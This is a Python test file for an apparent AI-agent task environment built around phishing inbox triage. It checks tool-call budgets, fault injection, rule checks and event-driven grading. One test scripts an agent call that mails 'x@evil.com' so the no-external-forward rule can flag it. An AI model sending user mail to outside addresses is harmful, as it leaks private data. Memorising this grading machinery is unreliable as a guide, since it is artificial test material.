"""The step's fast path (one call within the tool-call budget, run without the multi-call loop; faults looked up
only where one can be injected; rules checked inline) must behave as the general path: each test drives a turn
to the edge of a shortcut and checks the records, messages and grade it leaves."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from coworkenv.runtime import Environment
from coworkenv.spec import TaskSpec, load_spec
from coworkenv.spec.models import TRANSIENT_ERROR

PHISHING = load_spec(Path(__file__).parent.parent / "examples" / "phishing_inbox_triage.yaml")
MOVE = {"name": "mail_move", "arguments": json.dumps({"message_id": "msg-501", "folder": "spam"})}
READ = {"name": "mail_read", "arguments": json.dumps({"message_id": "msg-501"})}


def turn(*calls: dict[str, Any]) -> dict[str, Any]:
    return {
        "role": "assistant",
        "content": "",
        "tool_calls": [{"id": f"c{i}", "function": c} for i, c in enumerate(calls)],
    }


def variant(**changes: Any) -> TaskSpec:
    return TaskSpec.model_validate({**PHISHING.model_dump(exclude_none=True), **changes})


def test_the_call_that_meets_the_budget_runs_and_the_next_ends_the_episode() -> None:
    env = Environment(PHISHING, max_tool_calls=2)
    env.step(turn(READ))
    second = env.step(turn(READ))
    assert not second.done and env.steps[-1].tool_calls == 1
    third = env.step(turn(READ))
    assert third.done and third.done_reason == "max_tool_calls" and "limit reached" in third.messages[0]["content"]
    record = env.steps[-1]
    assert record.tool_calls == 0 and "tool_calls" not in record.model_fields_set  # as the loop leaves it
    assert len(env.log.calls) == 2


def test_a_two_call_turn_counts_both_and_keeps_the_order() -> None:
    env = Environment(PHISHING)
    obs = env.step(turn(READ, READ))
    assert [m["tool_call_id"] for m in obs.messages] == ["c0", "c1"] and env.steps[-1].tool_calls == 2


def test_a_scheduled_fault_hits_a_single_call_and_leaves_no_trace() -> None:
    env = Environment(PHISHING)  # faults: mail_move fails on its first call
    before = env.workspace.state_hash()
    obs = env.step(turn(MOVE))
    assert "error" in json.loads(obs.messages[0]["content"]) and env.log.calls[-1].fault
    assert env.workspace.state_hash() == before and not env.workspace.changes
    env.step(turn(MOVE))
    assert env.workspace.records("mail", "messages")["msg-501"]["folder"] == "spam"


def test_a_random_fault_is_drawn_without_scheduled_ones() -> None:
    env = Environment(variant(faults=[]), fault_rate=1.0)
    obs = env.step(turn(READ))
    assert json.loads(obs.messages[0]["content"]) == {"error": TRANSIENT_ERROR}
    clean = Environment(variant(faults=[]))
    assert "error" not in json.loads(clean.step(turn(READ)).messages[0]["content"])


def test_a_broken_rule_is_noted_on_a_single_call() -> None:
    env = Environment(PHISHING)
    send = {"name": "mail_send", "arguments": json.dumps({"to": ["x@evil.com"], "subject": "s", "body": "b"})}
    env.step(turn(send))
    assert env.steps[-1].violations == ["no_external_forward"] and env.violations[0].tool == "mail_send"


def test_an_event_fired_by_a_single_call_changes_what_checks_see() -> None:
    """The event moves a message the check reads: its notice follows the tool message, the check records it."""
    event = {
        "id": "auto_spam",
        "on_tool": "mail_read",
        "notify": "Two messages were flagged.",
        "mutations": [
            {"service": "mail", "collection": "messages", "op": "update", "id": m, "record": {"folder": "spam"}}
            for m in ("msg-502", "msg-503")
        ],
    }
    env = Environment(variant(faults=[], events=[event]))
    env.step(turn(MOVE))
    assert "scams_in_spam" not in env.tracker.first_true
    obs = env.step(turn(READ))
    assert [m["role"] for m in obs.messages] == ["tool", "user"] and env.steps[-1].events == ["auto_spam"]
    assert env.tracker.first_true["scams_in_spam"] == 2
